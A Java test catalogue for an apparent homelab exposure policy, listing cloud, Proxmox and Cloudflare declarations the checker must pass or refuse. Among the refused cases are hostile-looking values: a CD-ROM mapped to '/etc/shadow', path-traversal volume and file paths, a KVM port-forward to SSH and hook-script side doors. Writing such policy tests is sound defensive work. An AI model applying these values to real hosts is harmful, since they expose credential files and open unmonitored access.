package homelab.exposure;

import static homelab.exposure.PlainValues.GONE;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * Everything that is tried against the policy. Each type starts from one declaration that passes;
 * each violation differs from it, or from a named variant of it, in one place, so the nearest
 * allowed neighbour is tried with it.
 */
final class Catalogue {

  static final String VCN = "oci:Core/vcn:Vcn";
  static final String LIST = "oci:Core/securityList:SecurityList";
  static final String SUBNET = "oci:Core/subnet:Subnet";
  static final String GROUP = "oci:Core/networkSecurityGroup:NetworkSecurityGroup";
  static final String TUNNEL =
      "cloudflare:index/zeroTrustTunnelCloudflared:ZeroTrustTunnelCloudflared";

  /** What earlier declarations of the run got: type and id. */
  static final Declared DECLARED =
      (type, id) ->
          List.of(
                  List.of(VCN, "vcn-id"),
                  List.of(LIST, "security-list-id"),
                  List.of(SUBNET, "subnet-id"),
                  List.of(GROUP, "group-id"),
                  List.of(TUNNEL, "tunnel-id"),
                  List.of(CloudflareRules.ACCESS_POLICY, "policy-id"))
              .contains(List.of(type, id));

  static final Map<String, Object> EGRESS =
      Map.of(
          "description", "why",
          "destination", "0.0.0.0/0",
          "destinationType", "CIDR_BLOCK",
          "protocol", "6",
          "stateless", false,
          "tcpOptions", Map.of("min", 443, "max", 443));

  private static final Map<String, Object> INGRESS =
      Map.of("source", "0.0.0.0/0", "protocol", "6", "tcpOptions", Map.of("min", 22, "max", 22));

  private final List<Planted> allowed = new ArrayList<>();
  private final List<Planted> refused = new ArrayList<>();
  private String type;
  private String name;
  private Map<String, Object> base;

  private Catalogue() {}

  /** Returns all that must be refused. */
  static List<Planted> violations() {
    return List.copyOf(filled().refused);
  }

  /** Returns all that must pass. */
  static List<Planted> neighbours() {
    return List.copyOf(filled().allowed);
  }

  private static Catalogue filled() {
    var catalogue = new Catalogue();
    catalogue.oci();
    catalogue.guests();
    catalogue.host();
    catalogue.edge();
    catalogue.rest();
    return catalogue;
  }

  private Catalogue start(String newType, String newName, Map<String, Object> passes) {
    type = newType;
    name = newName;
    return variant("as declared", passes);
  }

  /** Another declaration that passes; what follows differs from it. */
  private Catalogue variant(String title, Map<String, Object> passes) {
    base = passes;
    allowed.add(new Planted(title, type, name, passes, List.of(), null, null));
    return this;
  }

  private Catalogue passes(String title, String path, Object value) {
    allowed.add(
        new Planted(title, type, name, PlainValues.with(base, path, value), List.of(), null, null));
    return this;
  }

  private Catalogue refuses(String title, String path, Object value, Rule rule) {
    return refuses(title, path, value, path, rule);
  }

  private Catalogue refuses(String title, String path, Object value, String where, Rule rule) {
    refused.add(
        new Planted(
            title, type, name, PlainValues.with(base, path, value), List.of(), where, rule));
    return this;
  }

  private Catalogue refusesNamed(String title, String otherName, Rule rule) {
    refused.add(new Planted(title, type, otherName, base, List.of(), "", rule));
    return this;
  }

  private Catalogue ignoring(String path, boolean allow) {
    var planted =
        new Planted(
            "ignores changes of " + path,
            type,
            name,
            base,
            List.of(path),
            allow ? null : path,
            allow ? null : Rule.IGNORED_CHANGE);
    (allow ? allowed : refused).add(planted);
    return this;
  }

  private Catalogue neverSet(Rule rule, Object value, String... properties) {
    for (String property : properties) {
      refuses("sets " + property, property, value, rule);
    }
    return this;
  }

  private void oci() {
    start(VCN, "vcn", Map.of("cidrBlocks", List.of("10.50.0.0/24"), "isIpv6enabled", false))
        .passes("says nothing of IPv6", "isIpv6enabled", GONE)
        .refuses("has IPv6", "isIpv6enabled", true, Rule.NO_IPV6)
        .refuses("has IPv6 as text", "isIpv6enabled", "true", Rule.NO_IPV6)
        .refuses("has Oracle's IPv6", "isOracleGuaAllocationEnabled", true, Rule.NO_IPV6)
        .neverSet(Rule.NO_IPV6, List.of("fd00::/48"), "ipv6privateCidrBlocks")
        .neverSet(Rule.NO_SIDE_DOOR, Map.of("a", "b"), "securityAttributes")
        .refuses("has an unknown property", "openDoor", true, Rule.TAUGHT_PROPERTY)
        .ignoring("freeformTags", false)
        .ignoring("isIpv6enabled", false)
        .ignoring("*", false);
    start(
            "oci:Core/internetGateway:InternetGateway",
            "gateway",
            Map.of("vcnId", "vcn-id", "enabled", true))
        .refuses("in a foreign VCN", "vcnId", "foreign", Rule.OWN_NETWORK)
        .refuses("in no VCN", "vcnId", GONE, Rule.OWN_NETWORK);
    start(
            "oci:Core/routeTable:RouteTable",
            "routes",
            Map.of("vcnId", "vcn-id", "routeRules", List.of()))
        .refuses(
            "a route to elsewhere",
            "routeRules",
            List.of(Map.of("destination", "0.0.0.0/0", "networkEntityId", "foreign")),
            "routeRules[0].networkEntityId",
            Rule.DECLARED_VALUES)
        .refuses("in a foreign VCN", "vcnId", "foreign", Rule.OWN_NETWORK);

    start(
        "oci:Core/defaultSecurityList:DefaultSecurityList",
        "default-list",
        Map.of(
            "manageDefaultResourceId", "default-list",
            "ingressSecurityRules", List.of(),
            "egressSecurityRules", List.of()));
    securityRules();
    start(
        LIST,
        "list",
        Map.of(
            "vcnId", "vcn-id",
            "ingressSecurityRules", List.of(),
            "egressSecurityRules", List.of(EGRESS, EGRESS)));
    securityRules();
    refuses("in a foreign VCN", "vcnId", "foreign", Rule.OWN_NETWORK)
        .passes(
            "lets UDP out",
            "egressSecurityRules[1]",
            Map.of(
                "protocol",
                "17",
                "destination",
                "0.0.0.0/0",
                "stateless",
                false,
                "udpOptions",
                Map.of("min", 51820, "max", 51820)))
        .refuses(
            "lets another port out",
            "egressSecurityRules[1].tcpOptions.max",
            444,
            Rule.DECLARED_VALUES)
        .refuses(
            "lets every port out", "egressSecurityRules[1].tcpOptions", GONE, Rule.DECLARED_VALUES)
        .refuses(
            "lets out to one address",
            "egressSecurityRules[1].destination",
            "203.0.113.1/32",
            Rule.DECLARED_VALUES)
        .refuses("lets all out", "egressSecurityRules[1].protocol", "all", Rule.LISTED_EGRESS)
        .refuses("lets ICMP out", "egressSecurityRules[0].protocol", "1", Rule.LISTED_EGRESS)
        .refuses("protocol is a number", "egressSecurityRules[0].protocol", 6, Rule.LISTED_EGRESS)
        .refuses(
            "egress names no protocol", "egressSecurityRules[0].protocol", GONE, Rule.LISTED_EGRESS)
        .refuses(
            "egress leads nowhere", "egressSecurityRules[0].destination", " ", Rule.LISTED_EGRESS)
        .refuses("stateless egress", "egressSecurityRules[1].stateless", true, Rule.STATEFUL)
        .refuses("stateless is left open", "egressSecurityRules[0].stateless", GONE, Rule.STATEFUL)
        .refuses("stateless is a text", "egressSecurityRules[0].stateless", "false", Rule.STATEFUL)
        .ignoring("egressSecurityRules", false)
        .ignoring("ingressSecurityRules[0]", false);

    start(GROUP, "group", Map.of("vcnId", "vcn-id"))
        .refuses("in a foreign VCN", "vcnId", "foreign", Rule.OWN_NETWORK);
    start(
            "oci:Core/networkSecurityGroupSecurityRule:NetworkSecurityGroupSecurityRule",
            "group-rule",
            Map.of(
                "networkSecurityGroupId", "group-id",
                "direction", "EGRESS",
                "protocol", "17",
                "destination", "0.0.0.0/0",
                "udpOptions", Map.of("min", 51820, "max", 51820),
                "stateless", false))
        .refuses("inbound", "direction", "INGRESS", Rule.NO_INGRESS)
        .refuses("inbound in small letters", "direction", "ingress", Rule.NO_INGRESS)
        .refuses("has a source", "source", "0.0.0.0/0", Rule.NO_INGRESS)
        .refuses("has a source type", "sourceType", "CIDR_BLOCK", Rule.NO_INGRESS)
        .refuses("stateless", "stateless", true, Rule.STATEFUL)
        .refuses("all protocols", "protocol", "all", Rule.LISTED_EGRESS)
        .refuses("no destination", "destination", GONE, Rule.LISTED_EGRESS)
        .refuses("destination is empty", "destination", "", Rule.LISTED_EGRESS)
        .refuses("of a foreign group", "networkSecurityGroupId", "foreign", Rule.OWN_NETWORK);

    start(
            SUBNET,
            "the-subnet",
            Map.of(
                "vcnId", "vcn-id",
                "cidrBlock", "10.50.0.0/24",
                "securityListIds", List.of("security-list-id")))
        .refuses("in a foreign VCN", "vcnId", "foreign", Rule.OWN_NETWORK)
        .refuses("a foreign list", "securityListIds[0]", "foreign", Rule.OWN_SECURITY_LIST)
        .refuses(
            "a foreign list beside ours",
            "securityListIds",
            List.of("security-list-id", "foreign"),
            "securityListIds[1]",
            Rule.OWN_SECURITY_LIST)
        .refuses("the id of another thing", "securityListIds[0]", "vcn-id", Rule.OWN_SECURITY_LIST)
        .refuses("no list", "securityListIds", List.of(), Rule.OWN_SECURITY_LIST)
        .refuses("says nothing of lists", "securityListIds", GONE, Rule.OWN_SECURITY_LIST)
        .neverSet(Rule.NO_IPV6, "fd00::/64", "ipv6cidrBlock")
        .neverSet(Rule.NO_IPV6, List.of("fd00::/64"), "ipv6cidrBlocks")
        .ignoring("securityListIds", false)
        .ignoring("displayName", false);

    start(
            "oci:Core/instance:Instance",
            "machine",
            Map.of(
                "metadata", Map.of("user_data", "I2Nsb3Vk"),
                "instanceOptions", Map.of("areLegacyImdsEndpointsDisabled", true),
                "agentConfig",
                    Map.of(
                        "pluginsConfigs",
                        List.of(
                            Map.of("name", "Bastion", "desiredState", "DISABLED"),
                            Map.of(
                                "name",
                                "Compute Instance Run Command",
                                "desiredState",
                                "DISABLED"))),
                "createVnicDetails", Map.of("subnetId", "subnet-id", "assignPublicIp", "true")))
        .passes("no metadata", "metadata", GONE)
        .refuses(
            "a group of ours",
            "createVnicDetails.nsgIds",
            List.of("group-id"),
            "createVnicDetails.nsgIds",
            Rule.DECLARED_VALUES)
        .refuses(
            "a third plugin",
            "agentConfig.pluginsConfigs",
            List.of(
                Map.of("name", "Bastion", "desiredState", "DISABLED"),
                Map.of("name", "Compute Instance Run Command", "desiredState", "DISABLED"),
                Map.of("name", "OS Management Hub Agent", "desiredState", "DISABLED")),
            "agentConfig.pluginsConfigs[2].name",
            Rule.DECLARED_VALUES)
        .refuses("an SSH key", "metadata.ssh_authorized_keys", "ssh-ed25519 AAAA", Rule.NO_SSH_KEY)
        .refuses("metadata of another kind", "metadata.x", "y", Rule.NO_SSH_KEY)
        .refuses("metadata is a text", "metadata", "user_data", Rule.NO_SSH_KEY)
        .refuses("extended metadata", "extendedMetadata", Map.of("a", "b"), Rule.NO_SSH_KEY)
        .refuses(
            "legacy endpoints on",
            "instanceOptions.areLegacyImdsEndpointsDisabled",
            false,
            Rule.NO_LEGACY_METADATA)
        .refuses(
            "legacy endpoints not mentioned",
            "instanceOptions",
            GONE,
            "instanceOptions.areLegacyImdsEndpointsDisabled",
            Rule.NO_LEGACY_METADATA)
        .refuses(
            "Bastion on",
            "agentConfig.pluginsConfigs[0].desiredState",
            "ENABLED",
            Rule.NO_REMOTE_AGENT)
        .refuses(
            "run command on",
            "agentConfig.pluginsConfigs[1].desiredState",
            "ENABLED",
            Rule.NO_REMOTE_AGENT)
        .refuses(
            "run command without a word",
            "agentConfig.pluginsConfigs",
            List.of(Map.of("name", "Bastion", "desiredState", "DISABLED")),
            Rule.NO_REMOTE_AGENT)
        .refuses(
            "a plugin without a name",
            "agentConfig.pluginsConfigs",
            List.of(
                Map.of("name", "Bastion", "desiredState", "DISABLED"),
                Map.of("name", "Compute Instance Run Command", "desiredState", "DISABLED"),
                Map.of("desiredState", "DISABLED")),
            "agentConfig.pluginsConfigs[2].name",
            Rule.NO_REMOTE_AGENT)
        .refuses(
            "no agent configuration",
            "agentConfig",
            GONE,
            "agentConfig.pluginsConfigs",
            Rule.NO_REMOTE_AGENT)
        .refuses("in a foreign subnet", "createVnicDetails.subnetId", "foreign", Rule.OWN_NETWORK)
        .refuses(
            "in no subnet",
            "createVnicDetails",
            GONE,
            "createVnicDetails.subnetId",
            Rule.OWN_NETWORK)
        .refuses(
            "a foreign group",
            "createVnicDetails.nsgIds",
            List.of("foreign"),
            "createVnicDetails.nsgIds[0]",
            Rule.OWN_NETWORK)
        .refuses("an IPv6 address", "createVnicDetails.assignIpv6ip", true, Rule.NO_IPV6)
        .refuses(
            "IPv6 pairs",
            "createVnicDetails.ipv6addressIpv6subnetCidrPairDetails",
            List.of(Map.of("ipv6address", "fd00::1")),
            Rule.NO_IPV6)
        .refuses("a VLAN", "createVnicDetails.vlanId", "vlan", Rule.NO_SIDE_DOOR)
        .refuses("forwards", "createVnicDetails.skipSourceDestCheck", true, Rule.NO_SIDE_DOOR)
        .refuses(
            "card attributes",
            "createVnicDetails.securityAttributes",
            Map.of("a", "b"),
            Rule.NO_SIDE_DOOR)
        .neverSet(Rule.OWN_NETWORK, "subnet-id", "subnetId")
        .neverSet(Rule.NO_SIDE_DOOR, "x", "ipxeScript", "instanceConfigurationId")
        .neverSet(Rule.NO_SIDE_DOOR, true, "isAiEnterpriseEnabled")
        .neverSet(Rule.NO_SIDE_DOOR, Map.of("a", "b"), "securityAttributes")
        .ignoring("availabilityDomain", true)
        .ignoring("faultDomain", true)
        .ignoring("metadata", false)
        .ignoring("metadata.user_data", false);
    start(
        "oci:Core/instanceConsoleConnection:InstanceConsoleConnection",
        "console",
        Map.of("publicKey", "ssh-rsa AAAA"));
    start("oci:Budget/budget:Budget", "budget", Map.of("amount", 1, "compartmentId", "tenancy"));
    start("oci:Budget/rule:Rule", "alert", Map.of("recipients", "you@example.org"));
  }

  private void securityRules() {
    refuses(
            "SSH in",
            "ingressSecurityRules",
            List.of(INGRESS),
            "ingressSecurityRules[0]",
            Rule.NO_INGRESS)
        .refuses(
            "the session's port in, stateless",
            "ingressSecurityRules",
            List.of(Map.of("source", "0.0.0.0/0", "protocol", "17", "stateless", true)),
            "ingressSecurityRules[0]",
            Rule.NO_INGRESS)
        .refuses("ingress is no list", "ingressSecurityRules", "none", Rule.NO_INGRESS)
        .refuses("ingress left out", "ingressSecurityRules", GONE, Rule.DECLARED_EMPTY)
        .refuses("egress left out", "egressSecurityRules", GONE, Rule.DECLARED_EMPTY)
        .refuses(
            "all protocols out",
            "egressSecurityRules",
            List.of(Map.of("protocol", "all", "destination", "0.0.0.0/0", "stateless", false)),
            "egressSecurityRules[0].protocol",
            Rule.LISTED_EGRESS)
        .refuses("egress is no list", "egressSecurityRules", "all", Rule.LISTED_EGRESS);
  }

  private void guests() {
    var card = Map.<String, Object>of("bridge", "vmbr1", "firewall", true, "vlanId", 40);
    start(
            "proxmoxve:index/vmLegacy:VmLegacy",
            "pfsense",
            Map.of(
                "vmId",
                100,
                "networkDevices",
                List.of(
                    Map.of("bridge", "vmbr0", "firewall", false),
                    Map.of("bridge", "vmbr1", "firewall", false))))
        .passes("one card", "networkDevices", List.of(Map.of("bridge", "vmbr0", "firewall", false)))
        .refuses(
            "pfSense with a firewall",
            "networkDevices[1].firewall",
            true,
            Rule.ROUTER_WITHOUT_FIREWALL)
        .refuses(
            "pfSense's firewall left open",
            "networkDevices[0].firewall",
            GONE,
            Rule.ROUTER_WITHOUT_FIREWALL)
        .refuses(
            "pfSense on a foreign bridge", "networkDevices[1].bridge", "vmbr7", Rule.GUEST_NETWORK)
        .neverSet(Rule.NO_SIDE_DOOR, "-nic user,hostfwd=tcp::22-:22", "kvmArguments")
        .neverSet(Rule.NO_SIDE_DOOR, "local:snippets/x.sh", "hookScriptFileId")
        .ignoring("networkDevices", false)
        .ignoring("description", false)
        .refuses("another machine", "vmId", 150, Rule.GUEST_NETWORK)
        .refuses("no id", "vmId", GONE, Rule.GUEST_NETWORK)
        .refuses("id zero", "vmId", 0, Rule.GUEST_NETWORK)
        .refuses("cards are a text", "networkDevices", "vmbr0", Rule.GUEST_NETWORK)
        .refuses("with trunks", "networkDevices[0].trunks", "10;20", Rule.DECLARED_VALUES)
        .refuses(
            "a disk of the host",
            "disks",
            List.of(Map.of("interface", "scsi0", "pathInDatastore", "/dev/sda")),
            "disks[0].pathInDatastore",
            Rule.DECLARED_VALUES)
        .refuses(
            "a file of the host as CD",
            "cdrom",
            Map.of("fileId", "/etc/shadow"),
            "cdrom.fileId",
            Rule.DECLARED_VALUES);

    start(
            "proxmoxve:index/containerLegacy:ContainerLegacy",
            "container",
            Map.of(
                "vmId", 200,
                "unprivileged", true,
                "features", Map.of("nesting", true),
                "mountPoints", List.of(Map.of("volume", "local-lvm", "path", "/srv/data")),
                "networkInterfaces", List.of(card)))
        .passes("without features", "features", GONE)
        .passes("without mount points", "mountPoints", GONE)
        .refuses("fuse said to be off", "features.fuse", false, Rule.DECLARED_VALUES)
        .refuses(
            "a path out of the storage",
            "mountPoints[0].volume",
            "local:../../../etc",
            Rule.DECLARED_VALUES)
        .refuses(
            "a key of another kind",
            "initialization",
            Map.of("userAccount", Map.of("password", "x")),
            "initialization.userAccount.password",
            Rule.DECLARED_VALUES)
        .refuses("privileged", "unprivileged", false, Rule.CONTAINED)
        .refuses("privileged by silence", "unprivileged", GONE, Rule.CONTAINED)
        .refuses("fuse", "features.fuse", true, Rule.CONTAINED)
        .refuses("keyctl", "features.keyctl", true, Rule.CONTAINED)
        .refuses("mknod", "features.mknod", true, Rule.CONTAINED)
        .refuses("mounts", "features.mounts", List.of("nfs"), Rule.CONTAINED)
        .refuses("a path of the host", "mountPoints[0].volume", "/etc", Rule.CONTAINED)
        .refuses("a volume without a name", "mountPoints[0].volume", GONE, Rule.CONTAINED)
        .refuses("a clone", "clone", Map.of("vmId", 300), Rule.CONTAINED)
        .neverSet(Rule.NO_SIDE_DOOR, "local:snippets/x.sh", "hookScriptFileId")
        .refuses("pfSense's id", "vmId", 100, Rule.GUEST_NETWORK)
        .refuses("without firewall", "networkInterfaces[0].firewall", false, Rule.GUEST_FIREWALL)
        .refuses("firewall as text", "networkInterfaces[0].firewall", "true", Rule.GUEST_FIREWALL)
        .refuses("on the WAN bridge", "networkInterfaces[0].bridge", "vmbr0", Rule.WAN_IS_PFSENSES)
        .refuses("on a foreign bridge", "networkInterfaces[0].bridge", "vmbr7", Rule.GUEST_NETWORK)
        .refuses("in the management network", "networkInterfaces[0].vlanId", 10, Rule.GUEST_NETWORK)
        .refuses("in the DMZ", "networkInterfaces[0].vlanId", 30, Rule.GUEST_NETWORK)
        .refuses("untagged", "networkInterfaces[0].vlanId", GONE, Rule.GUEST_NETWORK)
        .ignoring("initialization.userAccount", true)
        .ignoring("operatingSystem.templateFileId", true)
        .ignoring("networkInterfaces", false)
        // A token may not change them on a standing container; the role proxmox_host does.
        .ignoring("features", true)
        .variant(
            "cloudflared",
            Map.of(
                "vmId",
                101,
                "unprivileged",
                true,
                "networkInterfaces",
                List.of(Map.of("bridge", "vmbr1", "firewall", true, "vlanId", 30))))
        .refuses(
            "cloudflared among the services", "networkInterfaces[0].vlanId", 40, Rule.GUEST_NETWORK)
        .refuses(
            "cloudflared in the management network",
            "networkInterfaces[0].vlanId",
            10,
            Rule.GUEST_NETWORK);
  }

  private void host() {
    start(
            "proxmoxve:network/linux/bridge:Bridge",
            "bridge",
            Map.of("name", "vmbr1", "ports", List.of("enp2s0"), "vlanAware", true))
        .passes("no port", "ports", GONE)
        .refuses("the WAN bridge", "name", "vmbr0", Rule.WAN_IS_PFSENSES)
        .refuses("a bridge without a name", "name", GONE, Rule.WAN_IS_PFSENSES)
        .refuses("the WAN's card", "ports[0]", "enp1s0", Rule.WAN_IS_PFSENSES)
        .neverSet(Rule.HOST_ADDRESS, "10.20.20.2/24", "address", "gateway")
        .neverSet(Rule.HOST_ADDRESS, "fd00::2/64", "address6", "gateway6");
    start(
            "proxmoxve:network/linux/vlan:Vlan",
            "management-address",
            Map.of(
                "name", "vmbr1.10",
                "interface", "vmbr1",
                "vlan", 10,
                "address", "10.20.10.2/24",
                "gateway", "10.20.10.1"))
        .refuses("on the WAN bridge", "interface", "vmbr0", Rule.HOST_ADDRESS)
        .refuses("in the services' network", "vlan", 40, Rule.HOST_ADDRESS)
        .refuses("another address", "address", "10.20.40.2/24", Rule.HOST_ADDRESS)
        .neverSet(Rule.HOST_ADDRESS, "fd00::2/64", "address6", "gateway6");
    start(
            "proxmoxve:cluster/firewallLegacy:FirewallLegacy",
            "switch",
            Map.of(
                "enabled", true, "ebtables", true, "inputPolicy", "DROP", "outputPolicy", "ACCEPT"))
        .refuses("no layer-2 filter", "ebtables", false, Rule.HOST_FIREWALL)
        .refuses("no layer-2 filter by silence", "ebtables", GONE, Rule.HOST_FIREWALL)
        .refuses("input ACCEPT", "inputPolicy", "ACCEPT", Rule.HOST_FIREWALL)
        .refuses("input REJECT", "inputPolicy", "REJECT", Rule.HOST_FIREWALL)
        .refuses("input not mentioned", "inputPolicy", GONE, Rule.HOST_FIREWALL)
        .refuses("off", "enabled", false, Rule.HOST_FIREWALL)
        .refuses("on by silence", "enabled", GONE, Rule.HOST_FIREWALL)
        .ignoring("inputPolicy", false)
        .ignoring("enabled", false);
    start("proxmoxve:node/firewall:Firewall", "node-firewall", Map.of("enabled", true))
        .refuses("off", "enabled", false, Rule.HOST_FIREWALL);
    start(
            "proxmoxve:firewall/optionsLegacy:OptionsLegacy",
            "guest-firewall",
            Map.of("containerId", 200, "enabled", true, "inputPolicy", "DROP"))
        .refuses("off", "enabled", false, Rule.GUEST_FIREWALL)
        .refuses("input ACCEPT", "inputPolicy", "ACCEPT", Rule.GUEST_FIREWALL)
        .refuses("input not mentioned", "inputPolicy", GONE, Rule.GUEST_FIREWALL)
        .refuses("of another machine", "vmId", 150, Rule.DECLARED_VALUES)
        .refuses("of an unknown container", "containerId", 250, Rule.DECLARED_VALUES)
        .refuses("of pfSense", "vmId", 100, Rule.ROUTER_WITHOUT_FIREWALL);

    var rule =
        Map.<String, Object>of(
            "type",
            "in",
            "action",
            "ACCEPT",
            "source",
            "10.20.10.0/24",
            "proto",
            "tcp",
            "dport",
            "22");
    start(
            "proxmoxve:firewall/rulesLegacy:RulesLegacy",
            "host-rules",
            Map.of("rules", List.of(rule, rule)))
        .passes("no rule", "rules", List.of())
        .refuses(
            "one address of management", "rules[0].source", "10.20.10.77", Rule.DECLARED_VALUES)
        .refuses("hexadecimal", "rules[0].source", "0x0a140a01", Rule.DECLARED_VALUES)
        .refuses("three parts", "rules[0].source", "10.20.2563", Rule.DECLARED_VALUES)
        .refuses("any port", "rules[0].dport", GONE, Rule.DECLARED_VALUES)
        .refuses("any protocol", "rules[0].proto", GONE, Rule.DECLARED_VALUES)
        .passes("the node", "rules[0].source", "10.99.0.2")
        .refuses(
            "management and the node at once",
            "rules[0].source",
            "10.20.10.0/24,10.99.0.2",
            Rule.DECLARED_VALUES)
        .passes("the operator to SSH", "rules[0].source", "192.168.1.0/24")
        .refuses("out", "rules[0].type", "out", Rule.DECLARED_VALUES)
        .refuses("nobody in", "rules[0].action", "DROP", Rule.DECLARED_VALUES)
        .refuses("nobody in, with an answer", "rules[0].action", "REJECT", Rule.DECLARED_VALUES)
        .refuses("anybody", "rules[1].source", GONE, Rule.ADMITTED_SOURCES)
        .refuses("the whole world", "rules[0].source", "0.0.0.0/0", Rule.ADMITTED_SOURCES)
        .refuses("IPv6", "rules[0].source", "::/0", Rule.ADMITTED_SOURCES)
        .refuses("a wider network", "rules[0].source", "10.20.0.0/16", Rule.ADMITTED_SOURCES)
        .refuses("the services", "rules[0].source", "10.20.40.0/24", Rule.ADMITTED_SOURCES)
        .refuses("home's end of the session", "rules[0].source", "10.99.0.1", Rule.ADMITTED_SOURCES)
        .refuses(
            "the world beside management",
            "rules[0].source",
            "10.20.10.0/24,0.0.0.0/0",
            Rule.ADMITTED_SOURCES)
        .refuses("a range", "rules[0].source", "10.20.10.1-10.20.10.9", Rule.ADMITTED_SOURCES)
        .refuses("a list with a gap", "rules[0].source", "10.20.10.0/24,", Rule.ADMITTED_SOURCES)
        .refuses("a set by name", "rules[0].source", "+friends", Rule.ADMITTED_SOURCES)
        .refuses("an alias", "rules[0].source", "friends", Rule.ADMITTED_SOURCES)
        .refuses("any", "rules[0].source", "*", Rule.ADMITTED_SOURCES)
        .refuses("nobody said", "rules[0].source", "", Rule.ADMITTED_SOURCES)
        .refuses("a pattern", "rules[0].source", "10.20.10.*", Rule.ADMITTED_SOURCES)
        .refuses(
            "host bits of a wider network",
            "rules[0].source",
            "10.20.10.7/16",
            Rule.ADMITTED_SOURCES)
        .refuses("cloudflared to the host", "rules[0].source", "10.20.30.2", Rule.ADMITTED_SOURCES)
        .refuses("a group of rules", "rules[0].securityGroup", "open", Rule.ADMITTED_SOURCES)
        .refuses("a macro", "rules[0].macro", "SSH", Rule.ADMITTED_SOURCES)
        .refuses("a type of its own", "rules[0].type", "forward", Rule.ADMITTED_SOURCES)
        .refuses("an action of its own", "rules[0].action", "open", Rule.ADMITTED_SOURCES)
        .refuses("rules are a text", "rules", "all", Rule.ADMITTED_SOURCES)
        .ignoring("rules", false)
        .variant(
            "the operator to the API",
            Map.of(
                "rules",
                List.of(
                    Map.of(
                        "type",
                        "in",
                        "action",
                        "ACCEPT",
                        "source",
                        "192.168.1.0/24",
                        "proto",
                        "tcp",
                        "dport",
                        "8006"))))
        .refuses("the operator to another port", "rules[0].dport", "8080", Rule.ADMITTED_SOURCES)
        .refuses("the operator to a range", "rules[0].dport", "22:8006", Rule.ADMITTED_SOURCES)
        .refuses("the operator to any port", "rules[0].dport", GONE, Rule.ADMITTED_SOURCES)
        .refuses("the operator by UDP", "rules[0].proto", "udp", Rule.ADMITTED_SOURCES)
        .refuses(
            "the operator to a container",
            "containerId",
            200,
            "rules[0].source",
            Rule.ADMITTED_SOURCES)
        .refuses("the operator to a machine", "vmId", 100, "rules[0].source", Rule.ADMITTED_SOURCES)
        .variant(
            "cloudflared to a service",
            Map.of(
                "containerId",
                201,
                "rules",
                List.of(
                    Map.of(
                        "type",
                        "in",
                        "action",
                        "ACCEPT",
                        "source",
                        "10.20.30.2",
                        "proto",
                        "tcp",
                        "dport",
                        "8080"))))
        .refuses("cloudflared to SSH", "rules[0].dport", "22", Rule.ADMITTED_SOURCES)
        .refuses("the DMZ to a service", "rules[0].source", "10.20.30.0/24", Rule.ADMITTED_SOURCES)
        .refuses(
            "cloudflared to itself", "containerId", 101, "rules[0].source", Rule.ADMITTED_SOURCES)
        .refuses(
            "cloudflared to an unknown container",
            "containerId",
            999,
            "rules[0].source",
            Rule.ADMITTED_SOURCES);
    start(
            "proxmoxve:firewall/ipsetLegacy:IpsetLegacy",
            "managers",
            Map.of("name", "managers", "cidrs", List.of(Map.of("name", "10.20.10.0/24"))))
        .passes("the node", "cidrs[0].name", "10.99.0.2")
        .refuses("the world", "cidrs[0].name", "0.0.0.0/0", Rule.ADMITTED_SOURCES)
        .refuses(
            "the world beside management",
            "cidrs[0].name",
            "10.20.10.0/24,0.0.0.0/0",
            Rule.ADMITTED_SOURCES)
        .refuses("an alias", "cidrs[0].name", "friends", Rule.ADMITTED_SOURCES)
        .refuses("the operator", "cidrs[0].name", "192.168.1.0/24", Rule.ADMITTED_SOURCES);

    start(
            "proxmoxve:index/fileLegacy:FileLegacy",
            "router-media",
            Map.of(
                "contentType",
                "iso",
                "sourceFile",
                Map.of("path", "target/media/pfsense-0123456789abcdef.iso")))
        .passes("in the project's root", "sourceFile.path", "pfsense-fedcba9876543210.iso")
        .refuses("a snippet", "contentType", "snippets", Rule.ONLY_ROUTER_MEDIA)
        .refuses("raw content", "sourceRaw", Map.of("data", "#!/bin/sh"), Rule.ONLY_ROUTER_MEDIA)
        .refuses(
            "another image",
            "sourceFile.path",
            "media/other-0123456789abcdef.iso",
            Rule.ONLY_ROUTER_MEDIA)
        .refuses(
            "no hash in its name",
            "sourceFile.path",
            "media/pfsense-latest.iso",
            Rule.ONLY_ROUTER_MEDIA)
        .refuses(
            "an absolute path",
            "sourceFile.path",
            "/media/pfsense-fedcba9876543210.iso",
            Rule.ONLY_ROUTER_MEDIA)
        .refuses(
            "from outside",
            "sourceFile.path",
            "../pfsense-fedcba9876543210.iso",
            Rule.ONLY_ROUTER_MEDIA)
        .refuses(
            "from the net",
            "sourceFile.path",
            "http://example.org/pfsense-fedcba9876543210.iso",
            Rule.ONLY_ROUTER_MEDIA)
        .refuses("under another name", "sourceFile.fileName", "x.iso", Rule.ONLY_ROUTER_MEDIA)
        .refuses(
            "without looking at certificates", "sourceFile.insecure", true, Rule.ONLY_ROUTER_MEDIA)
        .refuses("no file", "sourceFile", GONE, "sourceFile.path", Rule.ONLY_ROUTER_MEDIA)
        .neverSet(Rule.ONLY_ROUTER_MEDIA, "0700", "fileMode")
        .ignoring("sourceFile.changed", true)
        .ignoring("sourceFile", false)
        .ignoring("sourceFile.path", false);
    start(
            "proxmoxve:download/file:File",
            "template",
            Map.of(
                "contentType",
                "vztmpl",
                "checksum",
                "0".repeat(128),
                "checksumAlgorithm",
                "sha512"))
        .refuses("a disk image", "contentType", "iso", Rule.TEMPLATE_DOWNLOAD)
        .refuses("no checksum", "checksum", GONE, Rule.TEMPLATE_DOWNLOAD)
        .refuses("an empty checksum", "checksum", " ", Rule.TEMPLATE_DOWNLOAD)
        .refuses("a weak checksum", "checksumAlgorithm", "md5", Rule.TEMPLATE_DOWNLOAD);
    start("proxmoxve:index/poolLegacy:PoolLegacy", "pool", Map.of("poolId", "homelab"));
    start("proxmoxve:backup/job:Job", "backups", Map.of("pool", "homelab", "storage", "local"))
        .neverSet(Rule.NO_SIDE_DOOR, "/root/x.sh", "script");
  }

  private void edge() {
    start(
            TUNNEL,
            "the-tunnel",
            Map.of(
                "accountId", ExampleHomelab.ACCOUNT_ID,
                "configSrc", "cloudflare",
                "name", "homelab-example.org",
                "tunnelSecret", "c2VjcmV0"))
        .passes("the provider's account", "accountId", GONE)
        .refuses("a foreign account", "accountId", "0".repeat(32), Rule.OWN_ZONE)
        .refuses("rules kept at home", "configSrc", "local", Rule.TUNNEL_TO_SERVICES)
        .refuses("rules kept somewhere", "configSrc", GONE, Rule.TUNNEL_TO_SERVICES);

    Map<String, Object> leads =
        Map.of("hostname", "blog.example.org", "service", "http://10.20.40.11:8080");
    Map<String, Object> last = Map.of("service", "http_status:404");
    start(
